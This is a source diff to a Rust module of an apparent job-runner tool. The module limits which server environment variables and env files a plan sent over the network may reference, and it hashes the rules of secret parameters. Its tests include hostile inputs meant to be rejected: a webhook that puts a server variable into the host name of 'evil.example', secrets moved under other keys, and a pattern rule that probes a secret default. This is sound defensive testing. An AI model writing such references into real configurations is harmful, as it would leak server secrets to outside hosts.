@@ -1,9 +1,11 @@
-//! References of jobs files to their server: variables of the environment and environment files, each with the key that takes it.
+//! References of jobs files to their server: texts with variables of the environment, and environment files, each with the key that takes it.
 //!
-//! The text of a plan comes over the network. It may take from the server only what the server's own file takes under the same key: else its
-//! answer would show any variable of the server, or lines of any file.
+//! The text of a plan comes over the network. It may take from the server only what the server's own file takes under the same key by the
+//! same text: else its answer would show any variable of the server, or parts of it, or lines of any file.
 
 use std::collections::BTreeMap;
+
+use sha2::{Digest, Sha256};
 
 use super::annotate::annotate;
 use super::collector::Collector;
@@ -11,12 +13,35 @@ use super::fault::{Code, Faults, Position, quoted};
 use super::sources::Sources;
 use super::tree::{self, Map, Node, Value};
 
-/// The path of a key, without names of jobs and numbers of items, and what is taken there.
-type Reference = (String, String);
+/// A text that takes something from the server.
+#[derive(Debug, PartialEq, Eq, PartialOrd, Ord)]
+struct Reference {
+    /// The path of its key, without names of jobs and numbers of items.
+    key: String,
+    /// In a secret parameter, the hash of its rules: whether they take its default would show what the default is.
+    rules: Option<[u8; 32]>,
+    /// The whole text: a part of it may be shown.
+    text: String,
+}
 
-/// References with the position of the first one of each.
+/// The first place of a reference.
+#[derive(Debug)]
+struct FirstUse {
+    at: Position,
+    /// The variable or the file.
+    taken: String,
+}
+
+/// The key below which a value stands, and the rules of the secret parameter around it.
+#[derive(Clone, Debug, Default)]
+struct Place {
+    key: String,
+    rules: Option<[u8; 32]>,
+}
+
+/// References with the first use of each.
 #[derive(Debug, Default)]
-pub(super) struct References(BTreeMap<Reference, Position>);
+pub(super) struct References(BTreeMap<Reference, FirstUse>);
 
 impl References {
     /// The references of all texts; those of a part that is not YAML are left out, because no reader sees it either.
@@ -34,14 +59,15 @@ impl References {
     }
 
     fn add_file(&mut self, root: &Value) {
+        let top = Place::default();
         match root {
-            Value::List(jobs) => jobs.iter().for_each(|job| self.add("", job)),
+            Value::List(jobs) => jobs.iter().for_each(|job| self.add(&top, job)),
             Value::Map(root) => {
                 if let Some(defaults) = root.find("defaults") {
-                    self.add("", &defaults.value);
+                    self.add(&top, &defaults.value);
                 }
                 match root.find("jobs").map(|jobs| &jobs.value.value) {
-                    Some(Value::Map(jobs)) => jobs.pairs.iter().for_each(|job| self.add("", &job.value)),
+                    Some(Value::Map(jobs)) => jobs.pairs.iter().for_each(|job| self.add(&top, &job.value)),
                     Some(Value::List(_) | Value::Scalar(_)) | None => {}
                 }
             }
@@ -52,67 +78,113 @@ impl References {
     /// Checks that `present` has all these references.
     ///
     /// # Errors
-    /// A fault for each that it has not.
+    /// A fault for each that it has not. It names the key and what is taken.
     pub(super) fn check(&self, present: &Self, sources: &Sources<'_>) -> Result<(), Faults> {
         let mut collector = Collector::new(sources);
         let news = self.0.iter().filter(|(reference, _)| !present.0.contains_key(*reference));
-        for ((key, taken), at) in news {
-            let key = key.trim_start_matches('.');
+        for (reference, first) in news {
+            let (taken, key) = (quoted(&first.taken), quoted(reference.key.trim_start_matches('.')));
+            let same = match reference.rules {
+                Some(_) => "in a secret parameter with the same rules",
+                None => "in the same whole text",
+            };
             let text = format!(
-                "a plan takes from the server only what its present jobs.yaml takes under the same key, and that takes no {} under {}; \
-                 use 'longshore validate' on the server",
-                quoted(taken),
-                quoted(key),
+                "a plan takes from the server only what its present jobs.yaml takes under the same key {same}, and that takes no {taken} so \
+                 under {key}; use 'longshore validate' on the server",
             );
-            collector.fault_without_value(*at, Code::UnsetVariable, text);
+            collector.fault_without_value(first.at, Code::UnsetVariable, text);
         }
         annotate(collector.finish(), sources, &[]).map(drop)
     }
 
-    fn add(&mut self, path: &str, node: &Node) {
+    fn add(&mut self, place: &Place, node: &Node) {
         match &node.value {
-            Value::Scalar(scalar) => {
-                if path.contains(".env_file") {
-                    self.0.entry((path.to_owned(), scalar.text.clone())).or_insert(node.at);
-                }
-                self.add_variables(path, &scalar.text, node.at);
+            Value::Scalar(scalar) if place.key.contains(".env_file") => {
+                self.add_text(place, &scalar.text, node.at, scalar.text.clone());
             }
-            Value::List(items) => items.iter().for_each(|item| self.add(path, item)),
-            Value::Map(map) => self.add_map(path, map),
+            Value::Scalar(scalar) => self.add_variables(place, &scalar.text, node.at),
+            Value::List(items) => items.iter().for_each(|item| self.add(place, item)),
+            Value::Map(map) => self.add_map(place, map),
         }
     }
 
-    fn add_map(&mut self, path: &str, map: &Map) {
-        // The value of a secret parameter is hidden, that of another one is shown.
-        let is_secret = map
-            .find("secret")
-            .is_some_and(|pair| matches!(&pair.value.value, Value::Scalar(it) if it.text == "true"));
-        let path = if is_secret { format!("{path}(secret)") } else { path.to_owned() };
+    fn add_map(&mut self, place: &Place, map: &Map) {
         for pair in &map.pairs {
-            let inner = match path.ends_with(".environment") {
-                true => path.clone(),
-                false => format!("{path}.{}", pair.key),
-            };
+            let mut inner = Place { key: format!("{}.{}", place.key, pair.key), rules: place.rules };
             self.add_variables(&inner, &pair.key, pair.key_at);
+            if place.key == ".params" {
+                inner.rules = rules_of_secret(&pair.value);
+            }
             self.add(&inner, &pair.value);
         }
     }
 
-    fn add_variables(&mut self, path: &str, text: &str, at: Position) {
-        let mut rest = text;
-        while let Some(dollar) = rest.find('$') {
-            rest = &rest[dollar + 1..];
-            if let Some(after) = rest.strip_prefix('$') {
-                rest = after;
-            } else if let Some(after) = rest.strip_prefix('{') {
-                let name = after.split('}').next().unwrap_or_default();
-                if !name.starts_with("params.") {
-                    self.0.entry((path.to_owned(), format!("${{{name}}}"))).or_insert(at);
-                }
-                rest = after;
+    fn add_variables(&mut self, place: &Place, text: &str, at: Position) {
+        if let Some(name) = first_variable(text) {
+            self.add_text(place, text, at, format!("${{{name}}}"));
+        }
+    }
+
+    fn add_text(&mut self, place: &Place, text: &str, at: Position, taken: String) {
+        let reference = Reference { key: place.key.clone(), rules: place.rules, text: text.to_owned() };
+        self.0.entry(reference).or_insert(FirstUse { at, taken });
+    }
+}
+
+/// The hash of all that a parameter with the key `secret` says, except for its description.
+fn rules_of_secret(param: &Node) -> Option<[u8; 32]> {
+    let Value::Map(map) = &param.value else { return None };
+    map.find("secret")?;
+    let mut hash = Sha256::new();
+    for pair in map.pairs.iter().filter(|pair| pair.key != "description") {
+        add_to_hash(&mut hash, b'k', pair.key.as_bytes());
+        add_node_to_hash(&mut hash, &pair.value);
+    }
+    Some(hash.finalize().into())
+}
+
+fn add_node_to_hash(hash: &mut Sha256, node: &Node) {
+    match &node.value {
+        Value::Scalar(scalar) => {
+            add_to_hash(hash, if scalar.plain { b'p' } else { b'q' }, scalar.text.as_bytes());
+        }
+        Value::List(items) => {
+            add_to_hash(hash, b'l', &items.len().to_le_bytes());
+            items.iter().for_each(|item| add_node_to_hash(hash, item));
+        }
+        Value::Map(map) => {
+            add_to_hash(hash, b'm', &map.pairs.len().to_le_bytes());
+            for pair in &map.pairs {
+                add_to_hash(hash, b'k', pair.key.as_bytes());
+                add_node_to_hash(hash, &pair.value);
             }
         }
     }
+}
+
+/// The length keeps `ab, c` apart from `a, bc`.
+fn add_to_hash(hash: &mut Sha256, kind: u8, bytes: &[u8]) {
+    hash.update([kind]);
+    hash.update(bytes.len().to_le_bytes());
+    hash.update(bytes);
+}
+
+/// The name of the first variable of the server in a text.
+fn first_variable(text: &str) -> Option<&str> {
+    let mut rest = text;
+    while let Some(dollar) = rest.find('$') {
+        rest = &rest[dollar + 1..];
+        if let Some(after) = rest.strip_prefix('$') {
+            rest = after;
+        } else if let Some(after) = rest.strip_prefix('{') {
+            let name = after.split('}').next().unwrap_or_default();
+            if !name.starts_with("params.") {
+                return Some(name);
+            }
+            rest = after;
+        }
+    }
+    None
 }
 
 #[cfg(test)]
@@ -127,11 +199,20 @@ mod tests {
     }
 
     #[test]
-    fn a_plan_takes_what_the_present_file_takes_under_the_same_key() {
-        let present = "defaults: {env_file: a.env}\njobs:\n  a: {image: \"app:${TAG}\", environment: {PW: \"${PW}\"}}\n";
+    fn a_plan_takes_what_the_present_file_takes_under_the_same_key_by_the_same_text() {
+        let present = "defaults: {env_file: a.env}\njobs:\n  \
+                       a: {image: \"app:${TAG}\", environment: {PW: \"${PW}\"}, notify: [{webhook: \"https://h.example/${HOOK}\"}]}\n";
         for (text, allowed) in [
-            ("[{name: b, image: \"other:${TAG}\"}]", true),
-            ("[{name: b, image: x, environment: [\"OTHER=${PW}\"]}]", true),
+            ("[{name: b, image: \"app:${TAG}\", timeout: 1m}]", true),
+            ("[{name: b, image: x, environment: {PW: \"${PW}\", MORE: text}}]", true),
+            ("[{name: b, image: x, notify: {webhook: \"https://h.example/${HOOK}\", on: [failed]}}]", true),
+            ("[{name: b, image: \"other:${TAG}\"}]", false),
+            ("[{name: b, image: x, environment: [\"OTHER=${PW}\"]}]", false),
+            ("[{name: b, image: x, environment: {OTHER: \"${PW}\"}}]", false),
+            ("[{name: b, image: x, environment: {\"${PW}\": x}}]", false),
+            ("[{name: b, image: x, environment: {PW: {secret: \"${PW}\"}}}]", false),
+            ("[{name: b, image: x, environment: {X: {secret: \"${PW}\"}}}]", false),
+            ("[{name: b, image: x, notify: [{webhook: \"https://${HOOK}.evil.example/\"}]}]", false),
             ("[{name: b, image: x, env_file: [a.env]}]", true),
             ("[{name: b, image: x, command: \"$${PW} ${params.size}\"}]", true),
             ("[{name: b, image: x, command: \"${PW}\"}]", false),
@@ -142,7 +223,33 @@ mod tests {
         ] {
             assert_eq!(is_allowed(present, text), allowed, "{text}");
         }
-        let secret = "[{name: a, params: {p: {type: string, secret: true, default: \"${PW}\"}}}]";
-        assert!(is_allowed(secret, secret) && !is_allowed(secret, &secret.replace("true", "false")));
+    }
+
+    #[test]
+    fn a_plan_changes_no_rule_of_a_secret_default_that_comes_from_a_variable() {
+        let present = "[{name: a, params: {p: {type: string, secret: true, default: \"${PW}\", min: 3}}}]";
+        for (from, to, allowed) in [
+            ("name: a", "name: b", true),
+            ("min: 3", "min: 3, description: new", true),
+            ("secret: true", "secret: false", false),
+            ("secret: true, ", "", false),
+            ("min: 3", "min: 4", false),
+            ("min: 3", "min: 3, pattern: \"^[a-m].*$\"", false),
+            ("string", "list", false),
+        ] {
+            let text = present.replace(from, to);
+            assert_ne!(text, present);
+            assert_eq!(is_allowed(present, &text), allowed, "{text}");
+        }
+    }
+
+    #[test]
+    fn a_fault_names_the_key_and_the_variable() {
+        let sources = |text| Sources::of_file(text, Path::new("jobs.yaml"));
+        let text = "[{name: b, environment: {X: {secret: \"a${DBPW}b\"}}}]";
+        let faults =
+            References::of(&sources(text)).check(&References::default(), &sources(text)).unwrap_err();
+        let shown = faults.to_string();
+        assert!(shown.contains("\"environment.X.secret\"") && shown.contains("${DBPW}"), "{shown}");
     }
 }
